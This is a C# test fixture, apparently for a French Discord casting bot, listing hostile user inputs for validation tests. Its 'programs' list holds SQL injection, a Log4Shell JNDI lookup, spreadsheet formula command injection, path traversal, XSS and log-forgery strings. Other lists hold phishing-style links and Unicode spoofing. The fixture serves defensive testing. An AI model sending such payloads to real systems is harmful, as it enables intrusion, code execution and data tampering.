namespace CineBot.Tests.Features.Calls.Untrusted;

/// <summary>What is typed by people who would like words to be more than words, by kind; each has its own reason to be here.</summary>
internal static class HostileSentences
{
    /// <summary>A person and a role that are nobody's.</summary>
    private const string Nobody = "999999";

    public static IReadOnlyList<string> Of(string kind) => kind switch
    {
        "mentions" => ["@everyone", "@here", $"<@{Nobody}> <@!{Nobody}> <@&{Nobody}> <#{Nobody}>", "@\u202Eeveryone", "@\u200Beveryone", "`` x` <@everyone> `x ``", "</ban:123456789012345678>", "<id:guide>"],
        "markup" => ["<t:9999999999999:R>", "<:x:0> <a:x:18446744073709551615>", "[https://cnc.fr](https://evil.example)", "[x](<javascript:alert(1)>)", "https://аpple.com", @"https://evil.example\@cnc.fr", "discord.gg/abc discord。gg/abc dis\u00ADcord.gg/abc", "-# note", "~~**__*||", "# Titre\n> cité\n```js"],
        "length" => [Many("||", 1000), Many("> ", 500), "a" + Many("\n", 4000) + "b", Many("👨‍👩‍👧‍👦", 400), Many("é", 256), Many("é", 257), Many("é", 4001), Many("<@999999>", 60), "x " + Many("9", 300)],
        "letters" => ["e" + Many("\u0301", 500), "   ", "\u200B", "\u3164", "İ ı ß ﬁ", "\u202Egnp.exe", "a\0b", "\u001b[31m"],
        "programs" => ["'); DROP TABLE calls;--", "%", "_", @"\", "{0} {user} %s ${jndi:ldap://x} {{7*7}}", "{99}", "\r\n[INFO] admin granted", "\",\"level\":\"Fatal", "=HYPERLINK(\"http://evil\",\"x\")", "+1+cmd|'/c calc'!A0", "\t=1+1", "../../etc/passwd", "CON.txt", "<script>alert(1)</script>", "{\"a\":1,\"a\":2}", Many("[", 1000)],
        "numbers" => ["0", "-1", "1000000000000", "9223372036854775808", "18446744073709551616", "+5", " 5 ", "٥", "5,0", "0x10", "5e0", "½", "NaN", "12 figurants, 0 perchiste", "-1 figurant", "1000000000000 figurants", "2^63 figurants"],
        "dates" => ["29/02/2027", "28/03/2027 02:30", "25/10/2026 02:30", "0001-01-01", "9999-12-31 23:59", "1/2/27", "à la saint-glinglin", "hier", "dans 50 ans", "-1h", "1000000j", "P1Y", "25:61", "du 5 au 3", "tous les 31"],
        "shoots" => ["06 12 34 56 78", "12 rue de la Paix, 75002 Paris", "FR76 3000 6000 0112 3456 7890 189", "1 84 12 76 451 089 46", "Participation aux frais : 300 €", "enfants 8–12 ans, cachet attractif", "FR-93070", "saint-ouen", "99999", "15-17", "17-15", "quinze ans", "131 ans", "perche, perche, perche, perche", "http://", "https://user:pass@x.example/"],
        _ => throw new ArgumentOutOfRangeException(nameof(kind)),
    };

    private static string Many(string words, int times) => string.Concat(Enumerable.Repeat(words, times));
}
